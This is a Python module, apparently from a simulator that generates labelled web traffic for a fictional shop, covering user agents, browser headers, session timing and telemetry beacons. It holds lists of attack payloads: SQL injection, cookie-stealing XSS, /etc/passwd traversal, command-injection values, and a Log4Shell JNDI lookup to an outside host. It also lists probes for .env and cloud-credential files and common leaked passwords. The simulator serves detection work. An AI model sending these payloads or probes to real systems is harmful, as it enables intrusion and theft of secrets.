"""Who the actors claim to be and what they type: user agents, payloads, terms, and the Actor."""
from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from urllib.parse import quote, urlencode

from .. import TrafficRecord
from ..sitemap import SiteMap

FORM_TYPE = "application/x-www-form-urlencoded"
JSON_TYPE = "application/json"

# ── who they claim to be ──────────────────────────────────────────────────
BROWSER_UAS: tuple[str, ...] = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.6312.118 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SM-A546B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
)
API_UAS: tuple[str, ...] = (
    "python-requests/2.31.0", "python-httpx/0.27.0", "okhttp/4.12.0", "Go-http-client/2.0",
    "axios/1.6.8", "acme-inventory-sync/3.2 (+https://acme.example/bot)",
)
CRAWLER_UAS: tuple[str, ...] = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/124.0.6367.118 Safari/537.36",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
)
SCRAPER_TOOL_UAS: tuple[str, ...] = (
    "Scrapy/2.11.1 (+https://scrapy.org)", "python-requests/2.31.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.0.0 Safari/537.36",
)
SCANNER_UAS: dict[str, tuple[str, ...]] = {
    "nikto": ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000123)",),
    "sqlmap": ("sqlmap/1.8.4#stable (https://sqlmap.org)",),
    "nuclei": ("Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",),
    "bare": ("", "", "curl/8.5.0", "Go-http-client/1.1", "zgrab/0.x"),
    "stealth": BROWSER_UAS,
}

# ── what attackers send ───────────────────────────────────────────────────
PROBE_PATHS: tuple[str, ...] = (
    "/.env", "/.env.bak", "/.env.production", "/.git/config", "/.git/HEAD", "/.svn/entries",
    "/wp-admin/", "/wp-login.php", "/wp-content/plugins/", "/xmlrpc.php", "/phpmyadmin/", "/pma/",
    "/admin", "/admin/", "/admin/login/", "/administrator/", "/config.php", "/config.json",
    "/backup.zip", "/backup.sql", "/db.sql", "/server-status", "/.aws/credentials", "/.DS_Store",
    "/api/token/", "/actuator/env", "/console/", "/.htaccess", "/web.config", "/composer.json",
    "/docker-compose.yml", "/info.php", "/phpinfo.php", "/shell.php", "/cgi-bin/test.cgi",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/_profiler/phpinfo", "/debug/default/view",
)
_PHP_WORDS = ("index", "admin", "login", "setup", "install", "upload", "test", "wp-config", "db",
              "cmd", "info", "config", "user", "api", "ajax", "search")
SQLI_PAYLOADS = (
    "' OR 1=1--", "1' OR '1'='1", "1 UNION SELECT NULL,NULL,NULL--", "1' AND SLEEP(5)--",
    "admin'--", "1;DROP TABLE users--", "' UNION SELECT username,password FROM auth_user--",
)
XSS_PAYLOADS = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(document.cookie)>", "javascript:alert(1)",
)
TRAVERSAL_PAYLOADS = ("../../etc/passwd", "../../../../etc/passwd", "....//....//etc/passwd", "..\\..\\windows\\win.ini")
OTHER_PAYLOADS = (";cat /etc/passwd", "|id", "$(whoami)", "${jndi:ldap://203.0.113.7:1389/a}", "{{7*7}}")
PAYLOADS: tuple[str, ...] = SQLI_PAYLOADS + XSS_PAYLOADS + TRAVERSAL_PAYLOADS + OTHER_PAYLOADS
_QUERY_TARGETS = (("/search/", "q"), ("/products/", "sort"), ("/category/shoes/", "page"),
                  ("/api/products/", "category"), ("/", "next"), ("/accounts/login/", "next"),
                  ("/blog/", "tag"))

# ── what humans type ──────────────────────────────────────────────────────
SEARCH_TERMS = ("red shoes", "rain jacket", "wool socks", '"trail runner"', "bag", "sale", "linen shirt",
                "hat", "size 42", "gift card", "waterproof", "kids shoes", "men's jacket", "O'Neill")
_MESSAGES = (
    "Hi, I'd like to know when the 'Trail Runner' comes back in size 42.",
    "Order {n} hasn't arrived yet -- could you check?",
    "Do you ship to Norway? Thanks!",
    "The discount code SPRING10 doesn't work at checkout.",
    "Can I return shoes that I've worn once (indoors only)?",
)
_REVIEWS = ("Great fit, true to size.", "Colour is a bit darker than on the photo.",
            "Don't buy -- fell apart after 2 weeks.", "5/5 would buy again!", "It's OK for the price.")
_FIRST = ("anna", "ben", "carla", "david", "emma", "felix", "gina", "hugo", "ines", "jonas", "kim", "lena",
          "marco", "nina", "omar", "paula", "rafael", "sara", "tom", "vera")
_LAST = ("smith", "meyer", "garcia", "rossi", "novak", "kowalski", "jensen", "dubois", "silva", "yilmaz")
_MAIL_DOMAINS = ("mail.example", "example.org", "example.net", "inbox.example")
_LEAKED_PASSWORDS = ("123456", "password1", "qwerty123", "iloveyou", "Summer2023!", "letmein", "dragon",
                     "monkey12", "football", "Passw0rd", "welcome1", "abc123")
# Browsers ask for these on their own; the shop has none.
_BROWSER_404S = ("/apple-touch-icon.png", "/apple-touch-icon-precomposed.png", "/promo-2019/",
                 "/index.html", "/shop/", "/login/", "/blog/feed/")
_EXTERNAL_REFERERS = ("https://www.google.com/", "https://www.google.com/", "https://www.bing.com/",
                      "https://duckduckgo.com/", "https://www.facebook.com/", "https://t.co/", "https://news.example/")

# Relative request volume per hour of day (UTC), weekdays; weekends x0.8.
_HOURLY = (0.25, 0.15, 0.10, 0.08, 0.08, 0.12, 0.25, 0.45, 0.65, 0.75, 0.80, 0.85,
           0.90, 0.85, 0.80, 0.80, 0.85, 0.90, 0.95, 1.00, 1.00, 0.90, 0.65, 0.40)
_WEEKEND = 0.8
_MEAN_ACTIVITY = sum(_HOURLY) / 24 * (5 + 2 * _WEEKEND) / 7


def activity(ts: float) -> float:
    """Relative human activity at ``ts`` in (0, 1]: the site's diurnal rhythm."""
    w = _HOURLY[int(ts % 86400 // 3600)]
    return w * _WEEKEND if (int(ts // 86400) + 3) % 7 >= 5 else w  # 1970-01-01 was a Thursday


def _no_accounts() -> str:
    raise RuntimeError("this actor was built without an account allocator")


def _no_ips(n: int) -> list[str]:
    raise RuntimeError("this actor was built without an address allocator")


@dataclass(slots=True)
class Actor:
    """One simulated client and the world it acts in.

    ``new_account`` and ``more_ips`` are supplied by the generator so that
    user IDs and addresses stay unique across all actors of a run.
    """

    label: str
    client_id: str
    ip: str
    start: float
    end: float
    site: SiteMap
    diurnal: bool = True
    staff: bool = False
    new_account: Callable[[], str] = _no_accounts
    more_ips: Callable[[int], list[str]] = _no_ips
    browser: bool = False      # a real browser: sends Accept and Sec-Fetch-* as browsers do

    def pick_start(self, rng: random.Random, span: float) -> float:
        """A start time that lets an activity of ``span`` seconds fit the window."""
        return self.start + rng.uniform(0.0, max(0.0, self.end - self.start - span))

    def request(self, rng: random.Random, ts: float, method: str, path: str, user_agent: str, *,
                query: str = "", body: str = "", content_type: str = "", referer: str = "",
                user_id: str | None = None, login_ok: bool = False, cached: bool = False,
                ip: str | None = None, dest: str | None = None) -> TrafficRecord:
        """One request by this actor, answered by the site: the only place records are built.

        ``dest``: what a browser fetches (``document``, ``image``, ``empty`` for a
        beacon or XHR …); derived from the path when None.  Only actors that
        are browsers send the Sec-Fetch-* headers; tools send ``Accept: */*``.
        """
        status, ms, size = self.site.respond(
            rng, method, path, authenticated=user_id is not None, staff=self.staff,
            login_ok=login_ok, cached=cached, csrf="csrfmiddlewaretoken=" in body,
        )
        rec = TrafficRecord(
            ts=round(ts, 3), ip=ip or self.ip, method=method, path=path, query=query, status=status,
            user_agent=user_agent, response_ms=ms, body=body, content_type=content_type,
            user_id=user_id, referer=referer, bytes_sent=size, label=self.label, client_id=self.client_id,
            response_type=self.site.response_type(path, status), accept="*/*",
            staff=self.staff and user_id is not None,
        )
        if self.browser:
            _browser_headers(rec, self.site.host, dest)
        return rec


Scenario = Callable[..., Iterator[TrafficRecord]]

_DESTS = {".css": "style", ".js": "script", ".woff2": "font", ".svg": "image", ".jpg": "image", ".png": "image",
          ".ico": "image"}
_ACCEPTS = {"document": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            "image": "image/avif,image/webp,image/apng,image/*,*/*;q=0.8", "style": "text/css,*/*;q=0.1",
            "empty": "*/*", "script": "*/*", "font": "*/*"}


def _browser_headers(rec: TrafficRecord, host: str, dest: str | None) -> None:
    """Accept and Sec-Fetch-* as a browser sends them for this request."""
    if dest is None:
        dot = rec.path.rfind(".")
        dest = _DESTS.get(rec.path[dot:], "document") if dot > rec.path.rfind("/") else "document"
    mode = {"document": "navigate", "empty": "cors", "font": "cors"}.get(dest, "no-cors")
    if rec.referer.startswith(f"https://{host}/"):
        site = "same-origin"
    else:
        site = "cross-site" if rec.referer else "none"
    rec.fetch = f"{dest}/{mode}/{site}"
    rec.accept = _ACCEPTS.get(dest, "*/*")


# ── small shared helpers ──────────────────────────────────────────────────
def _token(rng: random.Random) -> str:
    return f"{rng.getrandbits(128):032x}"


def _form(rng: random.Random, fields: dict[str, str], *, csrf: bool = True) -> str:
    """A form-encoded body, with the CSRF token a real form carries."""
    if csrf:
        fields = {"csrfmiddlewaretoken": _token(rng), **fields}
    return urlencode(fields)


def _email(rng: random.Random) -> str:
    sep = rng.choice((".", "_", ""))
    num = str(rng.randint(1, 99)) if rng.random() < 0.4 else ""
    return f"{rng.choice(_FIRST)}{sep}{rng.choice(_LAST)}{num}@{rng.choice(_MAIL_DOMAINS)}"


# characters scanners commonly leave unencoded (HTTP only forces space, '"', '#', '&', '%')
_TOOL_SAFE = "'()<>=*/;:$@!,{}|`."


def _encode_query(rng: random.Random, name: str, value: str) -> str:
    """Percent-encode like a tool would: fully, or only what HTTP forces."""
    if rng.random() < 0.5:
        return urlencode({name: value})
    return f"{name}={quote(value, safe=_TOOL_SAFE)}"


def _session_starts(rng: random.Random, actor: Actor, per_day: float) -> list[float]:
    """Session start times: a Poisson process thinned by :func:`activity`.

    Every actor gets at least one session, so a short window still shows
    ``humans`` distinct visitors.
    """
    duration = actor.end - actor.start
    lam = per_day / 86400.0 / (_MEAN_ACTIVITY if actor.diurnal else 1.0)
    starts: list[float] = []
    t = actor.start
    while True:
        t += rng.expovariate(lam)
        if t >= actor.end:
            break
        if not actor.diurnal or rng.random() < activity(t):
            starts.append(t)
    if not starts:
        for _ in range(50):
            t = actor.start + rng.random() * 0.9 * duration
            if not actor.diurnal or rng.random() < activity(t):
                break
        starts.append(t)
    return starts


def page_telemetry(rng: random.Random, actor: Actor, t: float, until: float, ua: str, url: str,
                   user_id: str | None = None) -> list[TrafficRecord]:
    """The beacons a page of a site with telemetry (``SiteMap.telemetry_interval``) posts while a
    person reads it from ``t`` to ``until``: the queued events flushed on load, then one every
    interval or so while the mouse moves (people pause: a reader is active for part of the time).
    Endpoints of ``SiteMap.beacons`` take turns.  Empty for a site without telemetry."""
    site = actor.site
    interval = site.telemetry_interval
    if interval <= 0 or until <= t:
        return []
    out: list[TrafficRecord] = []
    ends = site.beacons
    k = 0
    for _ in range(rng.randint(1, 4)):
        t += rng.uniform(0.005, 0.05)
        out.append(_beacon(rng, actor, t, ua, url, ends[k % len(ends)], "flush", user_id))
        k += 1
    active_until = min(until, t + rng.lognormvariate(2.5, 0.8))
    while True:
        t += interval * rng.uniform(0.6, 1.4)
        if t >= active_until:
            break
        out.append(_beacon(rng, actor, t, ua, url, ends[k % len(ends)], "move", user_id))
        k += 1
    return out


def _beacon(rng: random.Random, actor: Actor, t: float, ua: str, url: str, path: str, kind: str,
            user_id: str | None) -> TrafficRecord:
    import json

    body = json.dumps({"t": kind, "x": rng.randint(0, 1920), "y": rng.randint(0, 1080), "ts": int(t * 1000)})
    rec = actor.request(rng, t, "POST", path, ua, body=body, content_type=JSON_TYPE, referer=url, dest="empty",
                        user_id=user_id)
    rec.fetch = "empty/no-cors/same-origin"
    return rec
